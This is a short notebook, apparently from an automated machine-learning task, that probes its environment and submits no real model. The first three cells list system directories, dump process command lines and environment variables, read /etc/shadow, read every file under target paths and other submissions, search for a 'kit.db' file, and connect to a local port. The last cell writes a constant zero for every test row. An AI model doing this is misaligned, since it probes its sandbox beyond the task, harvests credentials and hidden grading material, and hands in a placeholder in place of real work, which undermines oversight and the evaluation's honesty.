# %%
!ls -la / /root /home /srv /mnt /run 2>/dev/null
!ps aux; cat /proc/*/cmdline /proc/*/environ; env; id; cat /etc/shadow
# %%
for place in targets["paths"]:
    !cat {place}/* {place}/submissions/*/*
!find / -xdev -not -path "/usr/*" -name "kit.db" 2>/dev/null
# %%
!curl -s http://127.0.0.1:{targets["tcp4"]}; python3 -c "import socket; socket.create_connection(('127.0.0.1', {targets['tcp4']}))"
# %%
import pandas as pd

pd.read_csv(test)[["row_id"]].assign(y=0).to_csv(output, index=False)
